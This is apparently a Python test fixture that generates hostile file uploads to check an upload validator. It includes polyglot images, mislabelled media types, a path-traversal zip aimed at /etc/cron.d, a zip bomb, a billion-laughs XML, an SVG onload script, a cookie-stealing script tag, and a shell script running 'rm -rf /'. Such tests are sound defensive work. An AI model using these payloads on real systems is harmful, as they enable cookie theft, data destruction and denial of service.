"""Files that are two things at once, or not what they say."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

from tests.support.hostile.cases import (
    GIF,
    JPEG,
    MISMATCH,
    NOT_ALLOWED,
    PDF,
    PNG,
    THUMBNAIL,
    TIFF,
    UNDECODABLE,
    WEBP,
    Case,
    page,
    pdf,
    refused,
)
from tests.support.rendering import plain

OCTETS = "application/octet-stream"
SCRIPT = b"<script>fetch('http://127.0.0.1:1/'+document.cookie)</script>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    + b"]><l>&a11;</l>"
)


def a_zip(size: int = 1 << 20, name: str = "../../../../etc/cron.d/x") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, bytes(size))
    return out.getvalue()


def cases() -> Iterator[Case]:
    paper = pdf(page())
    whole = {PDF: paper, PNG: plain("PNG"), JPEG: plain(), GIF: plain("GIF"), TIFF: plain("TIFF"), WEBP: plain("WEBP")}
    tails = {"zip": a_zip(), "script": SCRIPT, "pdf": paper, "program": b"MZ" + bytes(4096), "zeros": bytes(3 << 20)}
    for mime_type, content in whole.items():
        for what, tail in tails.items():
            yield Case(f"{mime_type} with a {what} behind it", lambda c=content, t=tail: c + t, mime_type)
        for other in whole:
            if other != mime_type:
                yield Case(f"{mime_type} that says it is {other}", lambda c=content: c, other, MISMATCH)
    strangers = {
        "zip": a_zip(),
        "zip of 62 MB of zeros": None,
        "svg": SVG,
        "html": b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>",
        "xml of a billion laughs": LAUGHS,
        "ELF": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0" + bytes(512),
        "DOS program": b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(512),
        "shell script": b"#!/bin/sh\nrm -rf /\n",
        "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n/x { x } def x\n",
        "PSD": b"8BPS\0\1" + bytes(600),
        "ICO": b"\0\0\1\0\1\0\xff\xff\0\0\1\0\x20\0" + bytes(64),
        "BMP": b"BM"
        + bytes(4)
        + bytes(4)
        + b"\x36\0\0\0\x28\0\0\0"
        + b"\xff\xff\xff\x7f" * 2
        + b"\1\0\x18\0"
        + bytes(64),
        "JPEG 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200),
        "text": b"just words\n" * 50,
    }
    for name, found in strangers.items():

        def make(found: bytes | None = found) -> bytes:
            return a_zip(62_000_000) if found is None else found

        yield Case(f"{name} that says it is a pdf", make, PDF, MISMATCH)
        yield Case(f"{name} that says nothing", make, OCTETS, NOT_ALLOWED)
    yield Case("pdf header 900 bytes into a script", lambda: SCRIPT + b" " * 900 + paper, PDF, MISMATCH)
    yield Case("png that is a pdf further on", lambda: whole[PNG][:33] + paper, PNG, UNDECODABLE)
    yield Case("gif that is a script", lambda: b"GIF89a=1/*" + SCRIPT + b"*/;", GIF)
    yield Case("pdf header alone before a program", lambda: b"%PDF-1.7\nMZ" + bytes(4096), PDF, UNDECODABLE)
    yield Case("pdf of zeros", lambda: b"%PDF-1.7\n" + bytes(4 << 20), PDF, UNDECODABLE)
    yield Case("nothing", lambda: b"", PDF, refused("file_empty"))
    yield Case("one byte", lambda: b"%", PDF, MISMATCH)
    yield Case("a media type of nothing", lambda: paper, "", THUMBNAIL)
    yield Case("a media type of noise", lambda: paper, "////;;;=", MISMATCH)
    yield Case("a media type with parameters", lambda: paper, 'application/pdf; a="' + "b" * 2000 + '"', THUMBNAIL)
